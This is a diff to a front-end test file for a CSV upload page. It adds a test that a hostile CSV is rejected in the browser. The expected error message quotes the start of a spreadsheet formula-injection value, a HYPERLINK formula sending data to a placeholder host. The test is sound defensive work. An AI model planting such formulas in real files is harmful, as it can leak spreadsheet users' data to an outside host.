@@ -1,4 +1,6 @@
 import { screen, waitFor, within } from '@testing-library/react';
+import { readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
 import { http, HttpResponse } from 'msw';
 import axios, { type AxiosAdapter, type AxiosProgressEvent, type InternalAxiosRequestConfig } from 'axios';
 import { getDb } from '@mocks/db';
@@ -6,6 +8,7 @@ import { server } from '@mocks/node';
 import { flash } from '@/components/flash/flash-store';
 import { http as api } from '@/lib/http';
 import { currentPath, renderApp } from '../../render-app';
+import { trackApi } from '../recibos/helpers';
 
 vi.setConfig({ testTimeout: 60_000 });
 
@@ -74,8 +77,8 @@ describe('TICA upload (upload-tica-file)', () => {
       // Step 1: nothing chosen yet, nothing to upload.
       expect(screen.getByText('Ningún archivo seleccionado')).toBeInTheDocument();
       expect(screen.getByRole('button', { name: 'Subir Archivo' })).toBeDisabled();
-      // No type or size check, several files allowed (seed 2 §5).
-      expect(fileInput()).not.toHaveAttribute('accept');
+      // The picker offers CSV files (the file is checked before upload, issue 19); several allowed.
+      expect(fileInput()).toHaveAttribute('accept', '.csv,text/csv');
       expect(fileInput()).toHaveAttribute('multiple');
 
       const primero = csv(
@@ -187,6 +190,45 @@ describe('TICA upload (upload-tica-file)', () => {
     expect(mensaje.split('\n')).toEqual([FALLO, "Línea 3: la aduana 'Aduana de Golfito' no existe"]);
     expect(duracion).toBe(10_000);
     expect(getDb().ticas.size).toBe(antes);
+  });
+
+  it('a hostile file is refused in the browser (issue 19, decision D30): its reason under it, it stays chosen, nothing sent or stored', async () => {
+    const antes = getDb().ticas.size;
+    const danger = vi.spyOn(flash, 'danger');
+    const { user, router } = await renderApp(PAGE, { role: 'admin' });
+    await screen.findByRole('heading', { name: 'Subir Archivo TICA' });
+    const api = trackApi();
+    const nombre = 'tica-formula-igual.csv';
+    const hostil = readFileSync(resolve(import.meta.dirname, '../../fixtures/hostile', nombre));
+    await user.upload(fileInput(), new File([hostil], nombre, { type: 'text/csv' }));
+    await user.click(screen.getByRole('button', { name: 'Subir Archivo' }));
+
+    expect(await screen.findByRole('alert')).toHaveTextContent(
+      "Línea 3, columna responsable: el valor '=HYPERLINK(\"http://example.invalid/?d=\"…' empieza con '=' " +
+        'y una hoja de cálculo lo tomaría como fórmula; ningún dato de TICA empieza así. Corrija esa celda e ' +
+        'intente de nuevo.',
+    );
+    // Nothing left the browser, nothing was stored, the screen and the choice stay.
+    expect(api.calls).toEqual([]);
+    expect(getDb().ticas.size).toBe(antes);
+    expect(danger).not.toHaveBeenCalled();
+    expect(currentPath(router)).toBe(PAGE);
+    expect(screen.getByRole('list', { name: 'Archivo a subir' })).toHaveTextContent(nombre);
+    expect(screen.getByRole('button', { name: 'Subir Archivo' })).toBeEnabled();
+
+    // A new choice clears the reason; a good file goes up as before.
+    await user.upload(
+      fileInput(),
+      csv(
+        'tica.csv',
+        '24600,Aduana de Limón,2026,880001,Depósito fiscal,2026-11-20,ACEPTADO,Ana Mora,PENDIENTE',
+      ),
+    );
+    expect(screen.queryByRole('alert')).not.toBeInTheDocument();
+    await user.click(screen.getByRole('button', { name: 'Subir Archivo' }));
+    await waitFor(() => expect(currentPath(router)).toBe('/default-layout/tica-filtros'));
+    expect(api.to('/api/tica/upload')).toHaveLength(1);
+    expect(getDb().ticas.size).toBe(antes + 1);
   });
 
   it('a new choice replaces the file, and removing it goes back to step 1', async () => {
